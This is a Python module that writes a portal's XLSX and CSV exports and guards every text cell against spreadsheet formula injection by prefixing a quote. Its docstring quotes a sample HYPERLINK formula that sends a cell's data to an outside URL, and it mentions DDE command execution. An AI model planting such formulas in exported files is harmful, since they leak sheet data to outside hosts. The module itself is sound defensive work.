"""The one writer of the spreadsheets and CSV files the portal hands out (XLSX ledgers, open-data CSV).

Text in these files comes from units, firms and publications; Excel, WPS and LibreOffice read a cell
that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a formula, which can fetch a
URL with the sheet's data (``=HYPERLINK("http://…?d="&C4, "详情")``) or run a command (DDE). Every text
value is passed through :func:`safe_cell`, which puts a single quote in front of such a value (OWASP's
CSV-injection rule), so it is shown as the text the person typed. Numbers and dates are never changed.

Plugins use :func:`append_row` for every row of an openpyxl sheet and :func:`csv_text` for a CSV file.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence

#: A text value starting with one of these is read as a formula by spreadsheet programs.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

#: A plain signed number written as text ("-12.50"): a spreadsheet reads it as that number, nothing more.
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def safe_cell(value):
    """``value`` as it may be written into a spreadsheet or CSV cell: text that a spreadsheet program
    would evaluate as a formula gets a leading ``'``; numbers, dates, ``None`` and plain text are unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def append_row(sheet, values: Iterable, *, as_text: bool = False) -> None:
    """Append one row to an openpyxl worksheet, every value through :func:`safe_cell`.

    With ``as_text`` (official paper forms, where an indicator's target reads ``=12月``) text is instead
    stored as a string cell, which no spreadsheet program evaluates, and shown exactly as written.
    """
    values = list(values)
    if not as_text:
        sheet.append([safe_cell(v) for v in values])
        return
    sheet.append([None if isinstance(v, str) else v for v in values])
    row = sheet.max_row
    for column, value in enumerate(values, start=1):
        if isinstance(value, str) and value:
            cell = sheet.cell(row, column)
            cell.value = value
            cell.data_type = "s"  # after the value: openpyxl would take a leading "=" for a formula


def csv_text(fieldnames: Sequence[str], rows: Iterable[Mapping], *, bom: bool = True) -> str:
    """A CSV file (header row, then one row per mapping; ``None`` as empty, CRLF line ends), every value
    through :func:`safe_cell`. With ``bom`` it starts with a byte-order mark, so that Excel reads UTF-8."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([safe_cell(name) for name in fieldnames])
    for row in rows:
        writer.writerow([safe_cell("" if row.get(name) is None else row.get(name)) for name in fieldnames])
    return ("\ufeff" if bom else "") + out.getvalue()


def workbook_bytes(workbook) -> bytes:
    """The saved XLSX file of an openpyxl workbook."""
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


__all__ = ["FORMULA_STARTS", "append_row", "csv_text", "safe_cell", "workbook_bytes"]
